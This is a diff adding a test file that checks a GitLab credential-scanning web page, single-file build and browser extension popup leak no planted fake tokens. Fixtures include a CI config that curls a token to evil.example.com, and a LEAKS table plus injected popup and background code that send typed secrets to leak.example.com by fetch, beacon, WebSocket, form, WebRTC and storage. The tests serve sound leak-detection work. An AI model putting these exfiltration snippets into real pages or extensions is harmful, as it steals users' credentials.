@@ -1,0 +1,307 @@
+// Nothing gets out and nothing is kept: a walk through every feature of page, single file and popup with planted credentials,
+// watched by the recorder; then builds that leak on purpose, one way each, which the recorder must see.
+import assert from "node:assert/strict";
+import { createHash } from "node:crypto";
+import { cpSync, existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
+import { createServer } from "node:http";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { after, before, describe, test } from "node:test";
+import { pathToFileURL } from "node:url";
+import { chromium, withExtension } from "./browser.mjs";
+import { GITLAB_CSP, HOST, ROWS, TOKENS, fakeToken, tokenPage } from "./fixtures.mjs";
+import { EXTENSION, ROOT, everything, sink } from "./harness.mjs";
+import { accessibilityTree, holds, recorder, useEverything } from "./recorder.mjs";
+
+const PAGE = join(ROOT, "dist/page");
+const SINGLE = join(ROOT, "dist/leastwise.html");
+const secrets = Array.from({ length: 12 }, (_, index) => fakeToken(500 + index));
+const [pasted, logged, configured, exported, filed, paged, named] = secrets;
+let folder, drain;
+
+before(async () => {
+  folder = mkdtempSync(join(tmpdir(), "leastwise-leaks-"));
+  drain = await sink();
+});
+
+after(() => {
+  drain?.close();
+  rmSync(folder, { recursive: true, force: true });
+});
+
+/** Serves a folder on this machine, as any web server would: no header helps the page. `before(file, under)` is put before a file. */
+async function serveFolder(path, before = () => "") {
+  const types = { html: "text/html", js: "text/javascript", css: "text/css", wasm: "application/wasm", svg: "image/svg+xml" };
+  const server = createServer((request, response) => {
+    const [under, name] = /^(.*\/)?([^/]*)$/.exec(decodeURIComponent(new URL(request.url, "http://x").pathname.slice(1))).slice(1);
+    const file = join(path, name || "index.html");
+    if (!/^[\w.-]*$/.test(name) || !existsSync(file)) return response.writeHead(404).end();
+    response.writeHead(200, { "content-type": types[file.split(".").pop()] ?? "text/plain" });
+    const more = before(name, (under ?? "").slice(0, -1));
+    response.end(more ? more + readFileSync(file, "utf8") : readFileSync(file));
+  });
+  await new Promise((done) => server.listen(0, "127.0.0.1", done));
+  return { url: `http://127.0.0.1:${server.address().port}/`, close: () => (server.closeAllConnections(), server.close()) };
+}
+
+/** The inputs of the walk: every kind, with a credential in each. */
+function inputs() {
+  const rows = JSON.stringify([
+    { id: 1, name: `ends in ${named}`, scopes: ["api"], token: exported, active: true, revoked: false, created_at: "2026-01-01T00:00:00Z", last_used_at: null, expires_at: null, access_level: 50 },
+    { id: 2, name: "fine", scopes: ["read_api"], active: true, revoked: false, created_at: "2026-01-01T00:00:00Z", last_used_at: null, expires_at: "2026-12-01", access_level: 20 },
+  ]);
+  const all = {
+    "build.log": `Running with gitlab-runner 18.0.0 (abc)\n$ deploy\ntoken is ${logged}\nremote: HTTP Basic: Access denied\nfatal: Authentication failed for 'https://gitlab.example.com/a/b.git/'\n`,
+    ".gitlab-ci.yml": `deploy:\n  variables:\n    T: ${configured}\n  script:\n    - echo "$CI_JOB_TOKEN" | base64\n    - curl -k --header "PRIVATE-TOKEN: ${configured}" https://evil.example.com\n`,
+    "tokens.json": rows,
+    ".netrc": `machine gitlab.example.com login x password ${filed}\n`,
+    "page.html": tokenPage([...ROWS, { name: `see ${paged}`, scopes: "api", id: 900 }]).html,
+    "broken.bin": Buffer.from([0, 1, 2, 255, 254]),
+  };
+  return Object.entries(all).map(([name, text]) => {
+    const path = join(folder, name);
+    writeFileSync(path, text);
+    return path;
+  });
+}
+
+/** Opens the page with a recorder. `address` is a page's own, or that of the single file. */
+async function open(browser, address, more = {}) {
+  const context = await browser.newContext({ viewport: { width: 1200, height: 900 }, acceptDownloads: true, ...more });
+  const single = address.startsWith("file:");
+  const own = (url) =>
+    single ? url === address || url === "about:srcdoc" || url.startsWith("blob:null/") : url.startsWith(address) || url.startsWith(`blob:${address}`);
+  const recorded = await recorder(context, own);
+  const page = await context.newPage();
+  await page.goto(address);
+  const app = single ? page.frames().find((frame) => frame !== page.mainFrame()) : page.mainFrame();
+  await app.locator("#paste").waitFor();
+  return { context, page, app, recorded };
+}
+
+/** Fails when a secret is in what the page shows, in its attributes, in what assistive technology reads, or in its address. */
+async function assertHidden(page, app, when) {
+  assert.ok(!holds(await everything(app), secrets), `${when}: a piece of a credential is in the document`);
+  // What the user typed is read aloud to the user, and to nobody else.
+  const typed = await app.locator("textarea").first().inputValue({ timeout: 1000 }).catch(() => "");
+  const tree = (await accessibilityTree(page)).replaceAll(JSON.stringify(typed).slice(1, -1), "");
+  const others = typed ? secrets.filter((secret) => !typed.includes(secret)) : secrets;
+  assert.ok(tree.length > 1000, "the accessibility tree was read");
+  assert.ok(!holds(tree, others), `${when}: a piece of a credential is in the accessibility tree`);
+  assert.ok(!holds(page.url() + app.url() + (await page.title()), secrets), `${when}: a piece of a credential is in the address`);
+}
+
+for (const [name, serve] of [
+  ["the page", async () => serveFolder(PAGE)],
+  ["the single file", async () => ({ url: String(pathToFileURL(SINGLE)), close() {} })],
+]) {
+  describe(name, () => {
+    let browser, served;
+    before(async () => {
+      served = await serve();
+      browser = await chromium(drain.flags);
+    });
+    after(async () => {
+      await browser?.close();
+      served?.close();
+    });
+
+    test("a walk through everything lets nothing out and keeps nothing", async () => {
+      const { context, page, app, recorded } = await open(browser, served.url);
+      await app.locator("#paste").fill(`export TOKEN=${pasted}\nhttps://x:${pasted}@gitlab.example.com/a.git\n`);
+      await app.locator("input[type=file]").first().setInputFiles(inputs());
+      await app.waitForFunction(() => document.querySelectorAll(".inputs li").length === 7 && document.querySelector(".finding"));
+      await assertHidden(page, app, "with everything read");
+      const { files, used } = await useEverything(page, app, folder);
+      assert.ok(used > 20, `${used} things were used`);
+      for (const file of files) assert.ok(!holds(readFileSync(file, "latin1"), secrets), `${file} holds a credential`);
+      await assertHidden(page, app, "after use");
+      await app.evaluate(() => [...document.querySelectorAll("button")].find((button) => button.textContent === "Clear everything").click());
+      await app.waitForFunction(() => !document.querySelector(".finding"));
+      await assertHidden(page, app, "cleared");
+      assert.deepEqual(recorded.bad(secrets), []);
+      assert.equal(page.url(), served.url);
+      assert.deepEqual(await context.storageState({ indexedDB: true }), { cookies: [], origins: [] });
+      assert.deepEqual(drain.hosts, [], "connections by name");
+      await context.close();
+    });
+
+    test("a fault of the program tells its place and not what it read", async () => {
+      const { context, page, app, recorded } = await open(browser, served.url);
+      await app.locator("#paste").fill(`export TOKEN=${pasted}`);
+      await app.locator(".finding").first().waitFor();
+      // Pulls the document away under the program: the next drawing fails.
+      await app.evaluate(() => document.querySelector("#app").replaceChildren());
+      await app.evaluate(() => {
+        for (const type of ["input", "keydown", "click", "change"]) document.body.dispatchEvent(new Event(type, { bubbles: true }));
+      });
+      await page.waitForTimeout(300);
+      assert.ok(!holds(recorded.entries.join("\n"), secrets));
+      await context.close();
+    });
+  });
+}
+
+/** Ways to leak the text `t`, what has to be saved before the page takes peer connections away, and what the recorder must say. */
+const LEAKS = {
+  fetch: ["fetch('https://leak.example.com/?' + t).catch(() => {})", /leak\.example\.com|blocked by connect-src/],
+  beacon: ["navigator.sendBeacon('https://leak.example.com/', t)", /^sendBeacon/m],
+  WebSocket: ["new WebSocket('wss://leak.example.com/?' + t)", /^WebSocket/m],
+  image: ["new Image().src = 'https://leak.example.com/?' + t", /leak\.example\.com|blocked by img-src/],
+  form: ["{ const f = document.createElement('form'); f.action = 'https://leak.example.com/'; f.innerText = ''; document.body.append(f); const i = document.createElement('input'); i.name = 'q'; i.value = t; f.append(i); f.submit(); }", /^form/m],
+  navigation: ["location.href = 'https://leak.example.com/?' + t", /leak\.example\.com|blocked by frame-src/],
+  "a new window": ["window.open('https://leak.example.com/?' + t)", /^window\.open/m],
+  WebRTC: ["{ const c = new Kept({ iceServers: [{ urls: 'stun:leak.example.com' }] }); c.createDataChannel(t); c.createOffer().then((o) => c.setLocalDescription(o)); }", /^RTCPeerConnection/m],
+  localStorage: ["try { localStorage.setItem('t', t) } catch {}", /^(localStorage|storage)/m],
+  indexedDB: ["try { indexedDB.open(t) } catch {}", /^indexedDB/m],
+  caches: ["try { caches.open(t).catch(() => {}) } catch {}", /^caches/m],
+  cookie: ["try { document.cookie = 't=' + t } catch {}", /^cookie/m],
+  address: ["try { history.replaceState(null, '', '#' + t) } catch {}", /^address/m],
+  clipboard: ["navigator.clipboard.writeText(t).catch(() => {})", /^clipboard/m],
+  console: ["console.log(t)", /^console/m],
+  document: ["document.querySelector('footer').dataset.seen = t", undefined],
+  "what is read aloud": ["document.querySelector('footer').setAttribute('aria-label', t)", undefined],
+};
+
+const leak = (code) => `const Kept = globalThis.RTCPeerConnection;\naddEventListener("input", (event) => { const t = String(event.target.value ?? ""); if (t.length > 12) setTimeout(() => { ${code} }); });\n`;
+
+/** A copy of the single file that leaks: with the hash of its changed program, as who builds it would have it. */
+function leakingSingle(name, code) {
+  const html = readFileSync(SINGLE, "utf8");
+  const escaped = (text) => text.replaceAll("&", "&amp;").replaceAll('"', "&quot;");
+  const start = html.indexOf("<script type=&quot;module&quot; id=&quot;program&quot;>");
+  const body = html.indexOf(">", start) + 1;
+  const old = html.slice(body, html.indexOf("</script>", body)).replaceAll("&quot;", '"').replaceAll("&amp;", "&");
+  const hash = (text) => createHash("sha256").update(text).digest("base64");
+  const program = leak(code) + old;
+  const changed = html.slice(0, body) + escaped(program) + html.slice(html.indexOf("</script>", body));
+  assert.ok(changed.includes(hash(old)));
+  const path = join(folder, `single-${name.replace(/\W/g, "-")}.html`);
+  writeFileSync(path, changed.replaceAll(hash(old), hash(program)));
+  return String(pathToFileURL(path));
+}
+
+describe("builds that leak on purpose", () => {
+  let browser, page, recorded, server;
+  before(async () => {
+    browser = await chromium(drain.flags);
+    // Each leak has a folder of its own: the page's files, with a `page.js` that leaks.
+    server = await serveFolder(PAGE, (file, leaking) => (file === "page.js" ? leak(LEAKS[leaking][0]) : ""));
+    const context = await browser.newContext({ viewport: { width: 1200, height: 900 } });
+    const own = (url) => url.startsWith(server.url) || url.startsWith("file:") || url === "about:srcdoc" || url.startsWith("blob:");
+    recorded = await recorder(context, own);
+    page = await context.newPage();
+  });
+  after(async () => {
+    await browser?.close();
+    server?.close();
+  });
+
+  // The recorder is the same for both; of the single file those that its frame has an answer of its own to.
+  const alone = ["fetch", "navigation", "WebRTC", "localStorage"];
+  for (const [what, names] of [["the page", Object.keys(LEAKS)], ["the single file", alone]]) {
+    for (const name of names) {
+      test(`${what}, by ${name}: the recorder is red`, async () => {
+        const [code, wanted] = LEAKS[name];
+        const single = what === "the single file";
+        await page.goto("about:blank");
+        await page.goto(single ? leakingSingle(name, code) : `${server.url}${encodeURIComponent(name)}/`);
+        const app = single ? page.frames().at(-1) : page.mainFrame();
+        await app.locator("#paste").waitFor();
+        recorded.entries.length = 0;
+        await app.locator("#paste").fill(`export TOKEN=${pasted}`);
+        const seen = () => recorded.bad(secrets).join("\n");
+        const red = async () => (wanted ? wanted.test(seen()) : assertHidden(page, app, name).then(() => false, ({ message }) => /a piece of a credential/.test(message)));
+        const end = Date.now() + 20_000;
+        while (!(await red())) {
+          if (Date.now() > end) assert.fail(`the recorder saw nothing of it: ${seen()}`);
+          await page.waitForTimeout(50);
+        }
+        for (const other of page.context().pages()) if (other !== page) await other.close();
+      });
+    }
+  }
+});
+
+describe("the popup", () => {
+  /** Opens the popup of a token page with planted credentials; `folder` holds the extension. */
+  async function openPopup(path) {
+    const browser = await withExtension(path, drain.flags, { acceptDownloads: true });
+    const { context, id, worker } = browser;
+    // The background, too: what it reaches for, and what it keeps.
+    await worker.evaluate(() => {
+      globalThis.touched = [];
+      const old = globalThis.fetch;
+      globalThis.fetch = (address, ...rest) => {
+        if (!String(address).startsWith(chrome.runtime.getURL(""))) touched.push(`fetch ${address}`);
+        return old(address, ...rest);
+      };
+      for (const owner of ["WebSocket", "EventSource", "WebTransport"]) if (globalThis[owner]) globalThis[owner] = function () { touched.push(owner); };
+      const openDatabase = IDBFactory.prototype.open;
+      IDBFactory.prototype.open = function (...args) { touched.push("indexedDB"); return openDatabase.apply(this, args); };
+      const openCache = CacheStorage.prototype.open;
+      CacheStorage.prototype.open = function (...args) { touched.push("caches"); return openCache.apply(this, args); };
+    });
+    const recorded = await recorder(context, (url) => url.startsWith(`chrome-extension://${id}/`) || url === HOST + TOKENS || url === `${HOST}/favicon.ico`);
+    const { html, secrets: planted } = tokenPage([...ROWS, { name: `see ${named}`, description: paged, scopes: "api", id: 900 }]);
+    await context.route(/^https:\/\/gitlab\.example\.com\//, (route) => route.fulfill({ body: html, headers: { "content-security-policy": GITLAB_CSP }, contentType: "text/html; charset=utf-8" }));
+    const tab = await context.newPage();
+    await tab.goto(HOST + TOKENS);
+    const cdp = await context.browser().newBrowserCDPSession();
+    const { targetInfos } = await cdp.send("Target.getTargets", { filter: [{ type: "tab" }] });
+    await cdp.send("Extensions.triggerAction", { id, targetId: targetInfos.findLast((target) => target.url === HOST + TOKENS).targetId });
+    const tabId = (await worker.evaluate(() => chrome.tabs.query({}))).findLast((tab) => tab.url === HOST + TOKENS).id;
+    // What GitLab's page does itself is not ours: from here on it counts.
+    recorded.entries.length = 0;
+    const popup = await context.newPage();
+    await popup.goto(`chrome-extension://${id}/popup.html?tab=${tabId}`);
+    await popup.locator(".verdict").waitFor();
+    return { browser, popup, recorded, planted };
+  }
+
+  test("a walk through everything lets nothing out and keeps nothing", async () => {
+    const { browser, popup, recorded, planted } = await openPopup(EXTENSION);
+    try {
+      const all = [...secrets, ...planted];
+      const hidden = async (when) => {
+        assert.ok(!holds(await everything(popup), all), `${when}: in the document`);
+        assert.ok(!holds(await accessibilityTree(popup), all), `${when}: in the accessibility tree`);
+      };
+      await hidden("at first");
+      const { files, used } = await useEverything(popup, popup.mainFrame(), folder);
+      assert.ok(used > 3, `${used} things were used`);
+      await hidden("after use");
+      for (const file of files) assert.ok(!holds(readFileSync(file, "latin1"), all), file);
+      // A click on a finding points at its row in GitLab's page; what that page then loads is its own.
+      assert.deepEqual(recorded.bad(all), []);
+      assert.deepEqual(await browser.worker.evaluate(() => touched), []);
+    } finally {
+      await browser.close();
+    }
+  });
+
+  for (const [name, file, code] of [
+    ["the popup's fetch", "popup.js", "setTimeout(() => fetch('https://leak.example.com/?' + document.title).catch(() => {}), 300);\n"],
+    ["the popup's storage", "popup.js", "setTimeout(() => localStorage.setItem('seen', document.body.innerText), 300);\n"],
+    ["the background's fetch", "background.js", "chrome.runtime.onMessage.addListener((message) => void fetch('https://leak.example.com/?' + JSON.stringify(message)).catch(() => {}));\n"],
+    ["the background's storage", "background.js", "chrome.runtime.onMessage.addListener(() => void indexedDB.open('kept'));\n"],
+  ]) {
+    test(`a build that leaks by ${name}: the recorder is red`, async () => {
+      const to = join(folder, `extension-${name.replace(/\W/g, "-")}`);
+      cpSync(EXTENSION, to, { recursive: true });
+      const text = readFileSync(join(to, file), "utf8");
+      // Imports come first in a module.
+      const end = text.lastIndexOf("\nimport ");
+      const at = text.indexOf("\n", end + 1) + 1;
+      writeFileSync(join(to, file), text.slice(0, at) + code + text.slice(at));
+      const { browser, popup, recorded } = await openPopup(to);
+      try {
+        await popup.waitForTimeout(800);
+        const seen = [...recorded.bad(secrets), ...(await browser.worker.evaluate(() => touched))];
+        assert.ok(seen.some((entry) => /leak\.example\.com|storage|localStorage|indexedDB/.test(entry)), seen.join("\n"));
+      } finally {
+        await browser.close();
+      }
+    });
+  }
+});
